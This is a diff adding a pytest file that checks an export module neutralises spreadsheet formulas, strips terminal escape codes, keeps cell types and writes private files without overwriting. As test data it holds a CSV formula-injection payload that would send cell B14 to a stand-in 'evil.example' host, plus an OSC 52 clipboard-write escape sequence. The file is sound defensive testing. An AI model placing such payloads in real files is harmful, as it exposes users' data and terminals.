@@ -1,0 +1,62 @@
+"""Export files: cells keep their kind, no cell runs as a formula, nothing is overwritten."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import stat
+from pathlib import Path
+
+import pytest
+
+from hubtui.core.export import formula_safe, render, typed_cell, write_export
+
+FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'
+
+
+def test_export_header_lines_are_one_cell_and_never_a_formula() -> None:
+    text = render("csv", {"project": FORMULA_NAME, "filter": " =1+1"}, ["Name"], [["x"]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == [f"# project: {FORMULA_NAME}"]  # one cell, not a cell per comma
+    assert rows[1] == ["# filter:  =1+1"]
+    assert rows[2:] == [["Name"], ["x"]]
+
+
+def test_a_formula_after_leading_spaces_or_in_full_width_is_quoted() -> None:
+    assert formula_safe(" =1+1") == "' =1+1"
+    assert formula_safe("\u3000=1+1") == "'\u3000=1+1"
+    assert formula_safe("＝1+1") == "'＝1+1"
+    assert formula_safe("a=1") == "a=1"
+
+
+def test_cells_keep_their_kind_in_json_and_read_as_words_in_csv() -> None:
+    row = [
+        typed_cell("LIMITED", boolean=True),
+        typed_cell("", boolean=True),
+        typed_cell("unknown", boolean=True),
+        typed_cell("1,204", numeric=True),
+        typed_cell("=cmd", numeric=True),
+    ]
+    assert row == [True, False, None, 1204, "=cmd"]
+    columns = ["Limited", "Reviewer", "Said", "Users", "Name"]
+    data = json.loads(render("json", {"server": "demo"}, columns, [row]))
+    assert data["rows"] == [dict(zip(columns, row, strict=True))]
+    assert data["context"] == {"server": "demo"}
+    lines = list(csv.reader(io.StringIO(render("csv", {}, columns, [row]))))
+    assert lines[-1] == ["yes", "no", "", "1204", "'=cmd"]
+
+
+def test_server_text_in_an_export_is_inert() -> None:
+    text = render("json", {"hub": "a\x1b]52;c;ZXZpbA==\x07"}, ["Name"], [["b\x1b[2J"]])
+    assert "\x1b" not in text
+    assert "\x07" not in text
+
+
+def test_a_file_is_private_and_never_replaced(tmp_path: Path) -> None:
+    path = tmp_path / "out.csv"
+    write_export(path, "first\n")
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    with pytest.raises(FileExistsError):
+        write_export(path, "second\n")
+    assert path.read_text() == "first\n"
